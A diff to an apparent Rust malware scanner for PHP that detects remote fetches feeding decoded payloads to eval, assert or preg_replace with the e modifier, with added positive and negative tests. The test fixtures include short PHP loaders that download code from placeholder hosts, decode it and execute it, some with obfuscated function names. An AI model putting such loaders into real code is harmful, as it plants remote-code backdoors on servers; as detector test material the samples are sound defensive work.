@@ -49,8 +49,13 @@ const DECODERS: &[&str] = &[
 /// Whether `name(` at `at` is a call of the built-in (not a method or a
 /// longer name) outside a comment.
 fn called(text: &str, name: &str) -> Option<usize> {
+    calls(text, name).next()
+}
+
+/// Every call of the built-in `name` outside a comment.
+fn calls<'t>(text: &'t str, name: &'t str) -> impl Iterator<Item = usize> + 't {
     let b = text.as_bytes();
-    text.match_indices(name).map(|(i, _)| i).find(|&i| {
+    text.match_indices(name).map(|(i, _)| i).filter(move |&i| {
         let end = i + name.len();
         let before_ok = i == 0
             || !(b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'$' | b'>' | b':'));
@@ -81,6 +86,28 @@ fn built_names(text: &str) -> Vec<(String, usize)> {
     out
 }
 
+/// Whether a `preg_replace` pattern literal (`'/x/e'`, `"#x#ie"`) carries
+/// the `e` modifier, which evaluates the replacement as PHP.
+fn evaluating_pattern(arg: &str) -> bool {
+    let mut chars = arg.chars();
+    let (Some(quote @ ('\'' | '"')), Some(delim)) = (chars.next(), chars.next()) else {
+        return false;
+    };
+    let Some(close) = arg[1..].find(quote) else {
+        return false;
+    };
+    let body = &arg[1 + delim.len_utf8()..1 + close];
+    let end = match delim {
+        '(' => ')',
+        '{' => '}',
+        '[' => ']',
+        '<' => '>',
+        d => d,
+    };
+    body.rfind(end)
+        .is_some_and(|i| body[i + end.len_utf8()..].contains('e'))
+}
+
 pub fn scan(src: &Src, sink: &mut Sink) {
     let text = src.text;
     if src.ext() != "php" && !text.contains("<?php") {
@@ -103,15 +130,19 @@ pub fn scan(src: &Src, sink: &mut Sink) {
     };
     let evaluator = EVALUATORS
         .iter()
-        .filter_map(|e| called(text, e))
+        .flat_map(|e| calls(text, e))
         .filter(|&at| {
-            // The argument is not one literal (`eval('return 1;')`).
             let rest = text[at..]
                 .split_once('(')
                 .map_or("", |(_, r)| r)
                 .trim_start();
-            !(rest.starts_with('\'') || rest.starts_with('"'))
-                || text[at..].starts_with("preg_replace")
+            if text[at..].starts_with("preg_replace") {
+                // Only with the `e` modifier does it evaluate.
+                evaluating_pattern(rest)
+            } else {
+                // The argument is not one literal (`eval('return 1;')`).
+                !(rest.starts_with('\'') || rest.starts_with('"'))
+            }
         })
         .min()
         .or_else(|| named(EVALUATORS));
@@ -161,6 +192,10 @@ mod tests {
             "<?php\n$c = @file_get_contents('https://pings.example/t.txt');\n$p = explode(\"\\n--\\n\", $c, 2);\n$f = 'gz' . 'inf' . 'late';\n$d = 'base' . '64_' . 'decode';\nregister_shutdown_function(function () use ($f, $d, $p) { run_it(@$f(@$d($p[1]))); });\nfunction run_it(string $s) { eval($s); }\n",
             "<?php\n$x = file_get_contents(\"http://cdn.example/x\");\neval(gzinflate(base64_decode($x)));\n",
             "<?php\n$ch = curl_init('https://h.example/p');\n$b = curl_exec($ch);\n$a = 'as' . 'sert';\n$a(str_rot13($b));\n",
+            // A literal eval first, the payload's eval later.
+            "<?php\n$v = eval('return 1;');\n$x = file_get_contents('http://cdn.example/x');\neval(base64_decode($x));\n",
+            // preg_replace with the e modifier.
+            "<?php\n$x = file_get_contents('http://cdn.example/x');\necho preg_replace('/.*/e', base64_decode($x), '');\n",
         ] {
             let ev = run("a.php", t);
             assert!(
@@ -180,6 +215,8 @@ mod tests {
             "<?php\n$r = file_get_contents('https://api.example/v1/items');\n$items = json_decode(base64_decode($r), true);\n",
             // A fetch and an evaluator, nothing hidden.
             "<?php\n$r = file_get_contents('https://api.example/v1/items');\n$rules = json_decode($r, true);\n$ok = eval($compiled_rule);\n",
+            // An ordinary preg_replace (no e modifier) beside a fetch and a decoder.
+            "<?php\n$r = file_get_contents('https://api.example/v1/img');\n$png = base64_decode($r);\n$slug = preg_replace('/[^a-z0-9]+/i', '-', $title);\n",
         ] {
             assert!(run("a.php", t).is_empty(), "{t}");
         }
